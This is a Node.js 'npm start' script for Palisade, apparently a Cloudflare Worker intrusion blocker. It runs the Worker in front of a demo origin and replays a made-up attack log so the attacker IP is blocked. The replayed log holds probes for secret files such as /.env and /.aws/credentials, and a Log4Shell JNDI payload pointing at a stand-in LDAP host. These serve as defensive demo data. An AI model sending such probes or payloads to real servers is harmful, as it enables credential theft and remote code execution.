// `npm start`: Palisade's Worker under `wrangler dev` (state persisted in .wrangler/), in
// front of a demo origin, then a short attack log replayed into the ingest endpoint so
// that within seconds the attacker gets a 403 and a normal visitor a 200. Its ports are
// checked first: nothing is replayed into whatever else listens there. Environment:
// PORT (8787, the Worker), ORIGIN_PORT (8788, the demo origin), INSPECTOR_PORT (9229,
// wrangler's inspector), STATE_DIR (.wrangler/state).
import { spawn } from "node:child_process";
import { copyFileSync, existsSync, readFileSync } from "node:fs";
import { createServer } from "node:net";
import { fileURLToPath } from "node:url";
import { startDemoOrigin } from "./demo-origin.mjs";

const root = fileURLToPath(new URL("..", import.meta.url));
const ATTACKER = "203.0.113.66";
const VISITOR = "198.51.100.7";

/** A user error, told as every Palisade command tells one, then exit 1 before anything ran. */
function fail(what, why, fix) {
  process.stderr.write(`npm start: ${what}\n  why: ${why}\n  fix: ${fix}\n`);
  process.exit(1);
}

/** A port from the environment (PORT=8790 npm start), or its default. */
function portVar(name, fallback) {
  const raw = process.env[name];
  if (raw === undefined || raw === "") return fallback;
  if (!/^\d{1,5}$/.test(raw) || Number(raw) < 1 || Number(raw) > 65535)
    fail(
      `${name}=${JSON.stringify(raw)} is not a port.`,
      `${name} is the port ${name === "PORT" ? "the Worker" : name === "ORIGIN_PORT" ? "the demo origin" : "wrangler's inspector"} listens on.`,
      `give a number from 1 to 65535, e.g. ${name}=${fallback + 10} npm start.`,
    );
  return Number(raw);
}

const PORT = portVar("PORT", 8787);
const ORIGIN_PORT = portVar("ORIGIN_PORT", 8788);
const INSPECTOR_PORT = portVar("INSPECTOR_PORT", 9229);
const STATE_DIR = process.env.STATE_DIR || `${root}.wrangler/state`;
const base = `http://127.0.0.1:${PORT}`;

/** Whether something already listens on 127.0.0.1:port (then nothing is started or replayed). */
function inUse(port) {
  return new Promise((resolve) => {
    const srv = createServer();
    srv.once("error", (e) => resolve(e.code === "EADDRINUSE" || e.code === "EACCES"));
    srv.listen(port, "127.0.0.1", () => srv.close(() => resolve(false)));
  });
}

async function checkPorts() {
  const ports = [
    ["PORT", PORT, "the Worker"],
    ["ORIGIN_PORT", ORIGIN_PORT, "the demo origin"],
    ["INSPECTOR_PORT", INSPECTOR_PORT, "wrangler's inspector"],
  ];
  const seen = new Map();
  for (const [name, port] of ports) {
    if (seen.has(port))
      fail(
        `${name} and ${seen.get(port)} are both ${port}.`,
        "each of the Worker, the demo origin and the inspector needs its own port.",
        "give them different ports, e.g. PORT=8790 ORIGIN_PORT=8791 npm start.",
      );
    seen.set(port, name);
  }
  for (const [name, port, what] of ports) {
    if (await inUse(port))
      fail(
        `port ${port} (${name}, ${what}) is already in use; nothing was started or replayed.`,
        "another program listens there (another npm start or wrangler dev?), and the demo would replay its attack into it.",
        `stop it (ss -ltnp 'sport = :${port}' shows which), or pick another port: ${name}=${port + 10} npm start.`,
      );
  }
}

await checkPorts();

if (!existsSync(`${root}.dev.vars`)) {
  copyFileSync(`${root}.dev.vars.example`, `${root}.dev.vars`);
  console.log("npm start: created .dev.vars from .dev.vars.example (local secrets)");
}
const devVars = Object.fromEntries(
  readFileSync(`${root}.dev.vars`, "utf8")
    .split("\n")
    .filter((l) => /^[A-Z_]+=/.test(l))
    .map((l) => [
      l.slice(0, l.indexOf("=")),
      l
        .slice(l.indexOf("=") + 1)
        .trim()
        .replace(/^"(.*)"$/, "$1"),
    ]),
);

const origin = await startDemoOrigin(ORIGIN_PORT);
const wrangler = spawn(
  process.execPath,
  [
    `${root}node_modules/wrangler/bin/wrangler.js`,
    "dev",
    "--ip",
    "127.0.0.1",
    "--port",
    String(PORT),
    "--inspector-port",
    String(INSPECTOR_PORT),
    "--persist-to",
    STATE_DIR,
    "--var",
    "PALISADE_ENV:local",
    "--var",
    `ORIGIN_URL:http://127.0.0.1:${ORIGIN_PORT}`,
    "--var",
    "BLOCKLIST_REFRESH_MS:1000",
    "--var",
    "KV_FLUSH_MS:200",
  ],
  {
    cwd: root,
    stdio: ["ignore", "pipe", "inherit"],
    env: { ...process.env, WRANGLER_SEND_METRICS: "false" },
  },
);
wrangler.stdout.on("data", (d) => process.stdout.write(d));
const stop = () => {
  wrangler.kill("SIGINT");
  origin.close();
};
process.on("SIGINT", stop);
process.on("SIGTERM", stop);
wrangler.on("exit", (code) => {
  origin.close();
  process.exit(code ?? 0);
});

async function waitForWorker() {
  for (let i = 0; i < 120; i++) {
    try {
      const r = await fetch(`${base}/_palisade/v1/health`);
      if (r.ok) return;
    } catch {}
    await new Promise((r) => setTimeout(r, 500));
  }
  throw new Error(`the Worker did not come up on port ${PORT}`);
}

function attackLog() {
  const t = new Date();
  const stamp = (s) => {
    const d = new Date(t.getTime() + s * 1000);
    const m = d.toLocaleString("en-US", { month: "short", timeZone: "UTC" });
    const pad = (n) => String(n).padStart(2, "0");
    return `${pad(d.getUTCDate())}/${m}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
  };
  const lines = [];
  const probes = [
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/backup.sql",
    "/admin/config.php",
    "/phpmyadmin/",
    "/.aws/credentials",
    "/server-status",
    "/config.json",
    "/db.sql",
    "/.htpasswd",
    "/wp-admin/install.php",
  ];
  for (const [i, p] of probes.entries()) {
    lines.push(
      `${ATTACKER} - - [${stamp(i)}] "GET ${p} HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
    );
  }
  lines.push(
    `${ATTACKER} - - [${stamp(12)}] "GET /?x=\${jndi:ldap://203.0.113.66:1389/a} HTTP/1.1" 404 153 "-" "\${jndi:ldap://203.0.113.66:1389/a}"`,
  );
  for (const [i, p] of ["/", "/style.css", "/app.js", "/about", "/logo.png"].entries()) {
    lines.push(
      `${VISITOR} - - [${stamp(i)}] "GET ${p} HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"`,
    );
  }
  return lines;
}

await waitForWorker();
const res = await fetch(`${base}/_palisade/v1/ingest`, {
  method: "POST",
  headers: {
    authorization: `Bearer ${devVars.PALISADE_MACHINE_TOKEN}`,
    "content-type": "application/json",
  },
  body: JSON.stringify({
    batch_id: `npm-start-demo-${Date.now()}`,
    // A replayed log, not requests the Worker saw: unlabelled (no edge: "on"), its access
    // lines count while edge detection is on (src/ingest/edge-coverage.ts).
    source: { type: "nginx", labels: { demo: "npm-start" } },
    lines: attackLog(),
  }),
});
console.log(
  `\nnpm start: replayed a short attack log into ${base}/_palisade/v1/ingest -> ${res.status} ${await res.text()}`,
);
await new Promise((r) => setTimeout(r, 2500));
const probe = async (ip) =>
  (await fetch(`${base}/`, { headers: { "CF-Connecting-IP": ip } })).status;
console.log(`
Palisade is running at ${base} in front of the demo origin http://127.0.0.1:${ORIGIN_PORT}.
  curl -i -H 'CF-Connecting-IP: ${ATTACKER}' ${base}/    # the attacker: ${await probe(ATTACKER)}
  curl -i -H 'CF-Connecting-IP: ${VISITOR}' ${base}/    # a normal visitor: ${await probe(VISITOR)}
The console: ${base}/_palisade/console/  (log in with PALISADE_ADMIN_TOKEN from .dev.vars:
  ${devVars.PALISADE_ADMIN_TOKEN}; the attack above is in its overview and alerts, with its log lines)

For the admin CLI (palisade decisions list, alerts list, bouncers add …), paste:
  export PALISADE_URL=${base} PALISADE_TOKEN=${devVars.PALISADE_ADMIN_TOKEN ?? "<PALISADE_ADMIN_TOKEN from .dev.vars>"}

Ctrl-C stops it; state persists in ${STATE_DIR}.
`);
